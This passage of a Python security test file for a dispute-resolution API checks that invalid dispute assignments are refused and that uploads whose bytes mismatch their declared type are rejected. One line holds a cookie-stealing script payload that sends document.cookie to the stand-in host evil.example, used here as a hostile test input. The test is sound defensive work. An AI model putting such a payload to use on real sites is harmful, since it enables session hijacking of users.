    keys = make_accounts(sec_rt)
    world = seed(sec_rt)
    with sec_rt.uow() as ctx:  # an agent account whose id is side A's buyer id
        auth.create_user(ctx.session, "b-alpha", "agent", PASSWORD, ctx.now())
    dispute = world.named("DA").ref
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        h = caller_headers(client, keys)
        before = fingerprint(sec_rt)
        for caller in ("agent", "admin"):
            for agent_id, code in [
                ("u-buyer-a", "assignee_not_an_agent"),
                ("u-seller-a", "assignee_not_an_agent"),
                ("s-alpha", "assignee_not_an_agent"),
                ("nobody", "assignee_not_an_agent"),
                ("b-alpha", "assignee_is_a_party"),
            ]:
                resp = client.post(
                    f"{API_PREFIX}/disputes/{dispute}/assign", json={"agent_id": agent_id}, headers=h[caller]
                )
                assert (resp.status_code, error_code(resp)) == (422, code), (caller, agent_id, resp.text)
        assert fingerprint(sec_rt) == before
        resp = client.post(f"{API_PREFIX}/disputes/{dispute}/assign", json={"agent_id": "u-admin"}, headers=h["agent"])
        assert resp.status_code == 200 and resp.json()["assigned_agent"] == "u-admin"


def test_an_upload_whose_bytes_are_not_its_type_is_refused_for_every_caller(sec_rt: Runtime) -> None:
    keys = make_accounts(sec_rt)
    world = seed(sec_rt)
    html = b"<!doctype html><script>document.location='https://evil.example/?'+document.cookie</script>"
    dispute = world.named("DA").ref
    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
        h = caller_headers(client, keys)
        before = fingerprint(sec_rt)
        for caller in ("buyer_a", "seller_a", "shop_a_key", "agent", "admin"):
            for media in ("image/png", "image/jpeg", "application/pdf", "video/mp4"):
                resp = client.post(
                    f"{API_PREFIX}/disputes/{dispute}/evidence/files",
                    data={"kind": "document" if media == "application/pdf" else media.split("/")[0]},
                    files={"file": ("x.png", html, media)},
                    headers=h[caller],
                )
                assert (resp.status_code, error_code(resp)) == (415, "content_type_mismatch"), (
                    caller,
                    media,
                    resp.text,
                )
        assert fingerprint(sec_rt) == before
